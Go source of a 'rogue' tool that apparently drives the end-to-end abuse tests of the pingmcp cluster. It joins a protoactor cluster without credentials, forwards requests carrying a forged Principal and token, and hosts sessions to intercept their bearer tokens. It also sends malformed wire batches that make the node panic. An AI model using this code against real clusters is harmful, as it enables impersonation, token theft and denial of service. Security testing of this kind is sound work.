// Command rogue is a local process without credentials that attacks a
// pingmcp node's cluster port, for e2e/abuse_cluster_test.go. It is its
// own OS process (one protoactor cluster per process) and prints one JSON
// line: how far it got.
//
//	rogue --mode join   --target ADDR --session ID --body JSON [--subject S ...]
//	    joins the cluster through ADDR as a node of its own (protoactor's
//	    cluster, pingmcp's seeds provider, plaintext) and forwards the body
//	    as a POST /mcp of the session, with a Principal it made up;
//	rogue --mode direct --target ADDR --session ID --body JSON [--subject S ...]
//	    joins nothing: with protoactor's remote alone it sends an
//	    ActivationRequest to ADDR's placement actor and the forged request
//	    to the activation it names, collecting the response parts;
//	rogue --mode member --target ADDR
//	    joins as a member hosting sessions, and counts, until --timeout, the
//	    requests of new sessions the cluster places on it (and the bearer
//	    tokens in them), answering each 503;
//	rogue --mode poison --target ADDR
//	    speaks protoactor's wire itself: connects to ADDR and sends batches
//	    that protoactor could not take (a message of a type nobody
//	    registered, one naming a target the batch does not hold, one for
//	    another of ADDR's names that protoactor would send on), then, each
//	    on a stream of its own, messages of known types that made it panic
//	    (a Terminated and a Watch naming no actor, pub-sub batches without
//	    a batch or with an inner type it does not hold), counting the
//	    batches in "sent" and the streams the target ended in "ended".
//
// It is not a test helper of the project's: nothing imports it.
package main

import (
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"os"
	"time"

	"github.com/asynkron/protoactor-go/actor"
	protocluster "github.com/asynkron/protoactor-go/cluster"
	"github.com/asynkron/protoactor-go/cluster/identitylookup/disthash"
	"github.com/asynkron/protoactor-go/remote"
	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials/insecure"
	"google.golang.org/protobuf/proto"

	"github.com/pingmcp/pingmcp/cluster"
	"github.com/pingmcp/pingmcp/cluster/envelope"
)

// outcome is what the rogue reports.
type outcome struct {
	Joined    bool   `json:"joined"`    // join: the target's cluster counted it a member
	Activated bool   `json:"activated"` // direct: the placement actor named an activation
	Status    int    `json:"status"`    // the forged request's HTTP status (0: no answer)
	Hosted    int    `json:"hosted"`    // member: requests placed on it
	Tokens    int    `json:"tokens"`    // member: of which with a bearer token
	Sent      int    `json:"sent"`      // poison: batches sent
	Ended     int    `json:"ended"`     // poison: streams the target ended with an error
	Body      string `json:"body"`
	Error     string `json:"error,omitempty"`
}

func main() {
	mode := flag.String("mode", "direct", "join or direct")
	target := flag.String("target", "", "cluster address of the node attacked")
	session := flag.String("session", "", "Mcp-Session-Id of the session attacked")
	body := flag.String("body", `{"jsonrpc":"2.0","id":7,"method":"tools/list"}`, "JSON-RPC body to forward")
	issuer := flag.String("issuer", "", "forged Principal: issuer (none when empty)")
	subject := flag.String("subject", "", "forged Principal: subject")
	clientID := flag.String("client-id", "", "forged Principal: client")
	timeout := flag.Duration("timeout", 10*time.Second, "how long to try")
	flag.Parse()

	req := &envelope.Request{Id: "rogue-1", Method: http.MethodPost, Path: "/mcp", Body: []byte(*body), Window: cluster.DefaultWindow,
		Headers: []*envelope.Header{
			{Name: "Content-Type", Values: []string{"application/json"}},
			{Name: "Accept", Values: []string{"application/json, text/event-stream"}},
			{Name: "Mcp-Session-Id", Values: []string{*session}},
			{Name: "Mcp-Protocol-Version", Values: []string{"2025-11-25"}},
		}}
	if *issuer != "" {
		req.Principal = &envelope.Principal{Issuer: *issuer, Subject: *subject, ClientId: *clientID,
			Scopes: []string{"todo_api:read", "todo_api:write"}, ExpiresUnix: time.Now().Add(time.Hour).Unix(), Token: "forged"}
	}
	ctx, cancel := context.WithTimeout(context.Background(), *timeout)
	defer cancel()
	var out outcome
	var err error
	switch *mode {
	case "join":
		err = join(ctx, *target, *session, req, &out)
	case "direct":
		err = direct(ctx, *target, *session, req, &out)
	case "member":
		err = member(ctx, *target, &out)
	case "poison":
		err = poison(ctx, *target, &out)
	default:
		err = fmt.Errorf("unknown mode %q", *mode)
	}
	if err != nil {
		out.Error = err.Error()
	}
	json.NewEncoder(os.Stdout).Encode(out)
}

// join becomes a member of the target's cluster and forwards req.
func join(ctx context.Context, target, session string, req *envelope.Request, out *outcome) error {
	n, err := cluster.Start(cluster.Config{Addr: "127.0.0.1:0", Provider: cluster.ProviderAutomanaged, Seeds: []string{target},
		Role: cluster.RoleEdge, Logger: slog.New(slog.NewTextHandler(io.Discard, nil))})
	if err != nil {
		return err
	}
	defer n.Stop(false)
	for n.Ready() != nil {
		select {
		case <-ctx.Done():
			return fmt.Errorf("never joined: %w", ctx.Err())
		case <-time.After(50 * time.Millisecond):
		}
	}
	out.Joined = true
	s, err := n.Forward(ctx, cluster.SessionKind, session, req)
	if err != nil {
		return err
	}
	defer s.Close()
	for {
		p, err := s.Next(ctx)
		if err != nil {
			return err
		}
		if out.Status == 0 {
			out.Status = int(p.Status)
		}
		out.Body += string(p.Body)
		if p.Final {
			return nil
		}
	}
}

// direct asks the target's placement actor for the session's activation,
// with protoactor's remote and nothing of pingmcp's cluster, and sends req
// to it.
func direct(ctx context.Context, target, session string, req *envelope.Request, out *outcome) error {
	system := actor.NewActorSystem(actor.WithLoggerFactory(func(*actor.ActorSystem) *slog.Logger {
		return slog.New(slog.NewTextHandler(io.Discard, nil))
	}))
	r := remote.NewRemote(system, remote.Configure("127.0.0.1", 0))
	r.Start()
	defer r.Shutdown(false)
	placement := actor.NewPID(target, disthash.PartitionActivatorActorName)
	deadline, _ := ctx.Deadline()
	res, err := system.Root.RequestFuture(placement, &protocluster.ActivationRequest{
		ClusterIdentity: protocluster.NewClusterIdentity(session, cluster.SessionKind), RequestId: "rogue",
	}, time.Until(deadline)).Result()
	if err != nil {
		return fmt.Errorf("activation request: %w", err)
	}
	a, ok := res.(*protocluster.ActivationResponse)
	if !ok || a.Pid == nil {
		return fmt.Errorf("activation request answered %T", res)
	}
	out.Activated = true
	parts := make(chan *envelope.ResponsePart, 64)
	collector := system.Root.Spawn(actor.PropsFromFunc(func(c actor.Context) {
		if e, ok := c.Message().(*envelope.Envelope); ok && e.GetPart() != nil {
			parts <- e.GetPart()
		}
	}))
	system.Root.RequestWithCustomSender(a.Pid, &envelope.Envelope{Body: &envelope.Envelope_Request{Request: req}}, collector)
	for {
		select {
		case <-ctx.Done():
			return fmt.Errorf("response: %w", ctx.Err())
		case p := <-parts:
			if out.Status == 0 {
				out.Status = int(p.Status)
			}
			out.Body += string(p.Body)
			if p.Final {
				return nil
			}
		}
	}
}

// member joins as a node hosting sessions and takes what is placed on it.
func member(ctx context.Context, target string, out *outcome) error {
	got := make(chan *envelope.Request, 256)
	props := actor.PropsFromFunc(func(c actor.Context) {
		e, ok := c.Message().(*envelope.Envelope)
		if !ok || e.GetRequest() == nil {
			return
		}
		r := e.GetRequest()
		got <- r
		c.Respond(&envelope.Envelope{Body: &envelope.Envelope_Part{Part: &envelope.ResponsePart{RequestId: r.Id, Status: http.StatusServiceUnavailable, Final: true}}})
	})
	n, err := cluster.Start(cluster.Config{Addr: "127.0.0.1:0", Provider: cluster.ProviderAutomanaged, Seeds: []string{target},
		Role: cluster.RoleMember, Kinds: []*protocluster.Kind{protocluster.NewKind(cluster.SessionKind, props)},
		Logger: slog.New(slog.NewTextHandler(io.Discard, nil))})
	if err != nil {
		return err
	}
	defer n.Stop(false)
	for {
		select {
		case r := <-got:
			out.Hosted++
			if r.Principal != nil && r.Principal.Token != "" {
				out.Tokens++
			}
		case <-ctx.Done():
			return nil
		case <-time.After(50 * time.Millisecond):
		}
		if !out.Joined && len(n.Members()) > 1 {
			out.Joined = true
		}
	}
}

// poison sends the target, over protoactor's own stream, batches that
// protoactor by itself would panic on or send round for good.
func poison(ctx context.Context, target string, out *outcome) error {
	_, port, err := net.SplitHostPort(target)
	if err != nil {
		return err
	}
	const envelopeType = "pingmcp.envelope.v1.Envelope"
	activator := func(addr string) []*actor.PID {
		return []*actor.PID{{Address: addr, Id: disthash.PartitionActivatorActorName}}
	}
	dropped := []*remote.MessageBatch{
		{TypeNames: []string{"rogue.NoSuchType"}, Targets: activator(target), Envelopes: []*remote.MessageEnvelope{{TypeId: 0, Target: 0}}},
		{TypeNames: []string{envelopeType}, Targets: activator(target), Envelopes: []*remote.MessageEnvelope{{TypeId: 0, Target: 5}}},
		{TypeNames: []string{envelopeType}, Targets: activator("localhost:" + port), Envelopes: []*remote.MessageEnvelope{{TypeId: 0, Target: 0}}},
	}
	if err := poisonStream(ctx, target, dropped, out); err != nil {
		return err
	}
	for _, m := range []proto.Message{
		&actor.Terminated{},
		&actor.Watch{},
		&protocluster.DeliverBatchRequestTransport{},
		&protocluster.PubSubBatchTransport{TypeNames: []string{envelopeType}, Envelopes: []*protocluster.PubSubEnvelope{{TypeId: 3}}},
	} {
		data, err := proto.Marshal(m)
		if err != nil {
			return err
		}
		b := &remote.MessageBatch{TypeNames: []string{string(proto.MessageName(m))},
			Targets:   []*actor.PID{{Address: target, Id: "rogue-nobody"}},
			Envelopes: []*remote.MessageEnvelope{{TypeId: 0, Target: 0, MessageData: data}}}
		if err := poisonStream(ctx, target, []*remote.MessageBatch{b}, out); err != nil {
			return err
		}
	}
	return nil
}

// poisonStream sends batches on a stream of its own, closes it and waits
// for the target to end it (counted in out.Ended if with an error).
func poisonStream(ctx context.Context, target string, batches []*remote.MessageBatch, out *outcome) error {
	conn, err := grpc.NewClient(target, grpc.WithTransportCredentials(insecure.NewCredentials()))
	if err != nil {
		return err
	}
	defer conn.Close()
	stream, err := remote.NewRemotingClient(conn).Receive(ctx)
	if err != nil {
		return err
	}
	hello := &remote.ConnectRequest{ConnectionType: &remote.ConnectRequest_ServerConnection{
		ServerConnection: &remote.ServerConnection{SystemId: "rogue", Address: "127.0.0.1:1"}}}
	if err := stream.Send(&remote.RemoteMessage{MessageType: &remote.RemoteMessage_ConnectRequest{ConnectRequest: hello}}); err != nil {
		return err
	}
	if _, err := stream.Recv(); err != nil {
		return fmt.Errorf("connect response: %w", err)
	}
	for _, b := range batches {
		if err := stream.Send(&remote.RemoteMessage{MessageType: &remote.RemoteMessage_MessageBatch{MessageBatch: b}}); err != nil {
			return fmt.Errorf("batch %d: %w", out.Sent+1, err)
		}
		out.Sent++
	}
	if err := stream.CloseSend(); err != nil {
		return err
	}
	for {
		if _, err := stream.Recv(); err == io.EOF {
			return nil
		} else if err != nil {
			out.Ended++
			return nil
		}
	}
}
